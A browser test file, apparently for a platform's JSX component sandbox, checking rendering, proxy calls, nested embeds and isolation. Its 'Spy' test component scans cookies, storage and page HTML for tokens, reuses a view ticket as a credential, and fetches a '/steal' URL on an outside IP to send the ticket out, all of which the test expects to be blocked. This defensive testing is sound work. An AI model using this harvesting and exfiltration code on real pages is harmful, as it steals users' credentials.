import { mkdirSync } from 'node:fs'
import t from 'tap'
import { ensureChromium, launchChromium } from '../helpers/chromium.ts'
import { startTestPlatform, type TestPlatform } from '../helpers/env.ts'

/*
 * Components in a real browser (Debian's chromium via playwright-core): a component compiled from
 * JSX renders, calls a function through its proxy and shows the data (screenshot kept in .tap/);
 * the example of docs/connectors-and-components.md calls a query through its page proxy, from the sandboxed page;
 * a hostile component on a share page looks for any token and finds none — not even the one this
 * origin's localStorage and cookie hold (the page's CSP sandbox gives it an opaque origin) —,
 * cannot use its view ticket as a credential, and the CSP stops eval and outside connections;
 * a component embedding another (enabled_components) shows it in a nested sandboxed frame that
 * calls its own function (screenshot .tap/component-embed.png).
 */
const why = ensureChromium()
if (why !== null) {
  t.test('components in a browser', { skip: why }, async () => {})
} else {
  let env: TestPlatform
  let a: { id: string; token: string }
  let browser: Awaited<ReturnType<typeof launchChromium>>

  const LIST = `import { useEffect, useState } from 'react'
import { execute } from 'platform-ui'

type Item = { sku: string; qty: number }

export default function Stock({ input }: { input: { warehouse?: string } }) {
  const [items, setItems] = useState<Item[]>([])
  const [status, setStatus] = useState('loading')
  useEffect(() => {
    execute('web/stock', { warehouse: input.warehouse ?? 'main' })
      .then((r) => { setItems(r.result.items); setStatus('done') })
      .catch((e) => setStatus('error: ' + e.message))
  }, [])
  return (
    <main>
      <h1>Stock of {input.warehouse ?? 'main'}</h1>
      <ul id="items">{items.map((i) => <li key={i.sku}>{i.sku}: {i.qty}</li>)}</ul>
      <p id="status">{status}</p>
    </main>
  )
}
`

  // The README's example: a customer's orders through the page's query proxy.
  const ORDERS = `import { useEffect, useState } from 'react'
import { query } from 'platform-ui'

export default function Orders({ input }: { input: { customer?: string } }) {
  const customer = input.customer ?? 'acme'
  const [rows, setRows] = useState<{ id: number; total: string }[]>([])
  const [status, setStatus] = useState('loading')
  useEffect(() => {
    query('web/orders', { customer })
      .then((r) => { setRows(r.rows); setStatus('done') })
      .catch((e) => setStatus('error: ' + e.message))
  }, [customer])
  return <main><h1>Orders of {customer}</h1><ul id="orders">{rows.map((o) => <li key={o.id}>#{o.id}: {o.total}</li>)}</ul><p id="status">{status}</p></main>
}
`

  // Everything a component could reach on its page, and what it can do with it.
  const SPY = `import { useEffect, useState } from 'react'
import ui from 'platform-ui'

export default function Spy() {
  const [report, setReport] = useState<string>('')
  useEffect(() => {
    (async () => {
      const r: Record<string, unknown> = {}
      // each read on its own: in the sandboxed (opaque-origin) page the storage getters throw
      const read = (what: string, f: () => string): string => {
        try {
          return f()
        } catch {
          r[what] = 'denied'
          return ''
        }
      }
      const haystack = [
        document.documentElement.outerHTML,
        read('cookie', () => document.cookie),
        read('localStorage', () => JSON.stringify(Object.fromEntries(Object.entries(localStorage)))),
        read('sessionStorage', () => JSON.stringify(Object.fromEntries(Object.entries(sessionStorage)))),
        JSON.stringify(ui),
        location.href,
        document.referrer,
      ].join('\\n')
      r.jwt = /eyJ[A-Za-z0-9_-]{10,}\\.[A-Za-z0-9_-]+/.test(haystack)
      r.apiKey = /apk_[A-Za-z0-9]/.test(haystack)
      const ticket = (JSON.parse(document.getElementById('platform-component')!.textContent!) as { ticket: string }).ticket
      // from the opaque origin these are cross-origin: refused before they are sent ('blocked')
      const status = (url: string, headers: Record<string, string>) => fetch(url, { headers }).then((res) => res.status, () => 'blocked')
      r.me = await status('/auth/me', { authorization: 'Bearer ' + ticket })
      r.list = await status('/api/v1/functions', { authorization: 'Bearer ' + ticket })
      r.apiKeyHeader = await status('/api/v1/functions', { 'x-api-key': ticket })
      try { r.evalRan = (0, eval)('1 + 1') === 2 } catch { r.evalRan = false }
      try { await fetch('http://203.0.113.7/steal?t=' + ticket); r.outside = 'sent' } catch { r.outside = 'blocked' }
      try { await ui.execute('web/stock', {}); r.notEnabled = 'ran' } catch (e) { r.notEnabled = (e as { status?: number }).status }
      setReport(JSON.stringify(r))
    })()
  }, [])
  return <pre id="report">{report}</pre>
}
`

  // A dashboard embedding the stock component (its enabled_components) in a nested, sandboxed frame.
  const DASH = `import { Embed } from 'platform-ui'

export default function Dash() {
  return <main><h1 id="dash">Dashboard</h1><Embed component="web/stock" input={{ warehouse: 'south' }} title="stock" /></main>
}
`

  const ok = async (method: string, path: string, body: unknown, status = 201) => {
    const res = await env.request(method, path, { body, token: a.token })
    if (res.status !== status) throw new Error(`${method} ${path}: ${String(res.status)} ${res.text}`)
    return res.body as Record<string, unknown>
  }

  t.before(async () => {
    env = await startTestPlatform(t)
    a = await env.createUser('browser-a@test.local')
    await ok('POST', '/api/v1/functions', {
      namespace: 'web',
      name: 'stock',
      code: 'def handler(input, context):\n    return {"items": [{"sku": "apple-" + input["warehouse"], "qty": 3}, {"sku": "pear", "qty": 7}]}\n',
      input_schema: { type: 'object', properties: { warehouse: { type: 'string' } }, required: ['warehouse'] },
    })
    await ok('POST', '/api/v1/components', {
      namespace: 'web',
      name: 'stock',
      title: 'Stock',
      source_code: LIST,
      enabled_functions: ['web/stock'],
      css_overrides: 'h1 { color: rebeccapurple }',
    })
    await ok('POST', '/api/v1/components', {
      namespace: 'web',
      name: 'spy',
      title: 'Spy',
      source_code: SPY,
      visibility: 'shared',
    })
    // a query of A's on the platform's own database, on a connection A may use
    const u = new URL(env.databaseUrl)
    const conn = await env.request('POST', '/api/v1/database-connections', {
      body: {
        name: 'browser-db',
        connection_type: 'postgresql',
        host: u.hostname,
        port: Number(u.port),
        database: u.pathname.slice(1),
        username: decodeURIComponent(u.username),
        password: decodeURIComponent(u.password),
        allow_platform_database: true,
      },
    })
    if (conn.status !== 201) throw new Error(`database connection: ${conn.text}`)
    await env.sql(
      `insert into roles (name, permissions) values ('browser-db-use', jsonb_build_object('platform.database-connections/browser-db.use:all', true))`,
    )
    await env.sql(`insert into user_roles (user_id, role_id) select $1, id from roles where name = 'browser-db-use'`, [
      a.id,
    ])
    await ok('POST', '/api/v1/queries', {
      namespace: 'web',
      name: 'orders',
      database_connection_id: (conn.body as { id: string }).id,
      sql: "select n as id, (n * 10.5)::text as total from generate_series(1, 2) n where :customer::text = 'acme'",
      input_schema: { type: 'object', properties: { customer: { type: 'string' } }, required: ['customer'] },
    })
    await ok('POST', '/api/v1/components', {
      namespace: 'web',
      name: 'orders',
      title: 'Orders',
      source_code: ORDERS,
      enabled_queries: ['web/orders'],
      input_schema: { type: 'object', properties: { customer: { type: 'string' } } },
    })
    await ok('POST', '/api/v1/components', {
      namespace: 'web',
      name: 'dash',
      title: 'Dashboard',
      source_code: DASH,
      enabled_components: ['web/stock'],
    })
    browser = await launchChromium()
    t.teardown(() => browser.close())
  })

  /** A rendered page opened as user A, collecting script errors and console errors (CSP and CORS violations land there). */
  const openRendered = async (path: string, input: unknown) => {
    const page = await browser.context.newPage()
    const problems: string[] = []
    page.on('pageerror', (e) => problems.push(e.message))
    page.on('console', (m) => {
      if (m.type() === 'error') problems.push(m.text())
    })
    // the bearer token goes on the page request only; the page itself never sees it
    await page.route('**/render*', (route) =>
      route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${a.token}` } }),
    )
    const res = await page.goto(`${env.base}${path}?input=${encodeURIComponent(JSON.stringify(input))}`)
    return { page, problems, res }
  }

  t.test('a JSX component renders in chromium and shows the data its function proxy returned', async (t) => {
    const compiled = await env.request('POST', '/api/v1/components/web/stock/compile', { token: a.token })
    t.equal(compiled.status, 200, 'compiled')
    const { page, problems, res } = await openRendered('/components/web/stock/render', { warehouse: 'north' })
    t.equal(res?.status(), 200)
    await page
      .locator('#status')
      .filter({ hasText: /done|error/ })
      .waitFor({ timeout: 60_000 })
    t.equal(await page.locator('#status').textContent(), 'done', 'the proxy call succeeded')
    t.same(
      await page.locator('#items li').allTextContents(),
      ['apple-north: 3', 'pear: 7'],
      'the function result is on the page',
    )
    t.equal(
      await page
        .locator('h1')
        .evaluate(
          (el) =>
            (globalThis as unknown as { getComputedStyle(e: unknown): { color: string } }).getComputedStyle(el).color,
        ),
      'rgb(102, 51, 153)',
      'css_overrides apply',
    )
    t.same(problems, [], 'no script errors, no CSP violations')
    mkdirSync('.tap', { recursive: true })
    await page.screenshot({ path: '.tap/component-render.png', fullPage: true })
    await page.close()
  })

  t.test("the documented component: a query through the page's proxy, from the sandboxed page", async (t) => {
    const { page, problems, res } = await openRendered('/components/web/orders/render', { customer: 'acme' })
    t.equal(res?.status(), 200)
    await page
      .locator('#status')
      .filter({ hasText: /done|error/ })
      .waitFor({ timeout: 60_000 })
    t.equal(await page.locator('#status').textContent(), 'done', 'the query proxy call succeeded')
    t.same(
      await page.locator('#orders li').allTextContents(),
      ['#1: 10.5', '#2: 21.0'],
      'the query rows are on the page',
    )
    t.same(problems, [], 'no script errors, no CSP or CORS violations')
    await page.close()
  })

  t.test('a hostile bundle on a share page finds no token and its ticket opens nothing', async (t) => {
    // The viewer's token in this origin's storage, as a docs page or a console would keep it.
    type Swagger = {
      ui?: {
        authActions: { authorizeWithPersistOption(a: unknown): unknown }
        specSelectors: { specJson(): { size: number } }
      }
    }
    type Storage = {
      localStorage: {
        setItem(k: string, v: string): void
        getItem(k: string): string | null
        length: number
        key(i: number): string | null
      }
      document: { cookie: string }
    }
    const docs = await browser.context.newPage()
    await docs.goto(`${env.base}/api/v1/docs`)
    await docs.waitForFunction(
      () => ((globalThis as unknown as Swagger).ui?.specSelectors.specJson().size ?? 0) > 0,
      undefined,
      { timeout: 60_000 },
    )
    // what the Authorize dialog's button does
    await docs.evaluate(
      (token) =>
        (globalThis as unknown as Swagger).ui?.authActions.authorizeWithPersistOption({
          bearer: { name: 'bearer', schema: { type: 'http', scheme: 'bearer', bearerFormat: 'JWT' }, value: token },
        }),
      a.token,
    )
    const stored = () =>
      docs.evaluate(() => {
        const s = (globalThis as unknown as Storage).localStorage
        return Array.from(
          { length: s.length },
          (_, i) => `${String(s.key(i))}=${String(s.getItem(s.key(i) ?? ''))}`,
        ).join('\n')
      })
    t.notOk((await stored()).includes(a.token), 'Swagger UI, once authorized, keeps the token out of localStorage')
    await docs.evaluate((token) => {
      const g = globalThis as unknown as Storage
      g.localStorage.setItem('authorized', JSON.stringify({ bearer: { name: 'bearer', value: token } }))
      g.document.cookie = `token=${token}; path=/`
    }, a.token)
    t.ok((await stored()).includes(a.token), "the token is in the origin's localStorage")
    await docs.close()

    const share = await ok('POST', '/api/v1/components/web/spy/shares', { max_views: 3 })
    const page = await browser.context.newPage()
    const res = await page.goto(`${env.base}${String(share['url'])}`)
    t.equal(res?.status(), 200)
    t.match(
      res?.headers()['content-security-policy'],
      /(^|; )sandbox allow-scripts(;|$)/,
      'the page runs in an opaque origin',
    )
    const report = page.locator('#report')
    await report.filter({ hasText: /\{/ }).waitFor({ timeout: 60_000 })
    const r = JSON.parse((await report.textContent()) ?? '{}') as Record<string, unknown>
    t.equal(r['jwt'], false, "no JWT anywhere the page can read, though the origin's localStorage and cookie hold one")
    t.equal(r['apiKey'], false, 'no API key')
    t.equal(r['localStorage'], 'denied', "the origin's localStorage is out of reach")
    t.equal(r['sessionStorage'], 'denied')
    t.equal(r['cookie'], 'denied', "and so are the origin's cookies")
    t.equal(r['me'], 'blocked', 'a bearer call from the page is refused by the browser (CORS, opaque origin)')
    t.equal(r['list'], 'blocked')
    t.equal(r['apiKeyHeader'], 'blocked')
    // and the ticket is no credential even when sent from outside a browser
    const ticket = (JSON.parse((await page.locator('#platform-component').textContent()) ?? '{}') as { ticket: string })
      .ticket
    t.equal(
      (await env.request('GET', '/auth/me', { token: ticket })).status,
      401,
      'the view ticket is not a bearer token',
    )
    t.equal(
      (await env.request('GET', '/api/v1/functions', { token: null, headers: { 'x-api-key': ticket } })).status,
      401,
      'nor an API key',
    )
    t.equal(r['evalRan'], false, 'the CSP forbids eval')
    t.equal(r['outside'], 'blocked', 'and connections to other origins')
    t.equal(r['notEnabled'], 403, 'a proxy call outside the enabled lists is refused')
    await page.close()
  })

  t.test(
    'an embedded component (enabled_components) renders in a nested sandboxed frame and calls its own function',
    async (t) => {
      const { page, problems, res } = await openRendered('/components/web/dash/render', {})
      t.equal(res?.status(), 200)
      await page.locator('#dash').waitFor({ timeout: 60_000 })
      const frame = page.frameLocator('iframe[title="stock"]')
      await frame
        .locator('#status')
        .filter({ hasText: /done|error/ })
        .waitFor({ timeout: 60_000 })
      t.equal(await frame.locator('#status').textContent(), 'done', "the embedded page's proxy call succeeded")
      t.same(
        await frame.locator('#items li').allTextContents(),
        ['apple-south: 3', 'pear: 7'],
        'with the input the embedding page gave it',
      )
      t.equal(
        await page.locator('iframe[title="stock"]').getAttribute('sandbox'),
        'allow-scripts',
        'the frame is sandboxed',
      )
      // the embedded page holds a ticket of its own, no token
      const inner = page.frames().find((f) => f.url().includes('/components/view/embed/web/stock'))
      t.ok(inner !== undefined, 'the nested frame loaded the embed page')
      const html = (await inner?.content()) ?? ''
      t.notOk(html.includes(a.token), 'no platform token in the embedded page')
      t.same(problems, [], 'no script errors, no CSP violations')
      await page.screenshot({ path: '.tap/component-embed.png', fullPage: true })
      await page.close()
    },
  )
}
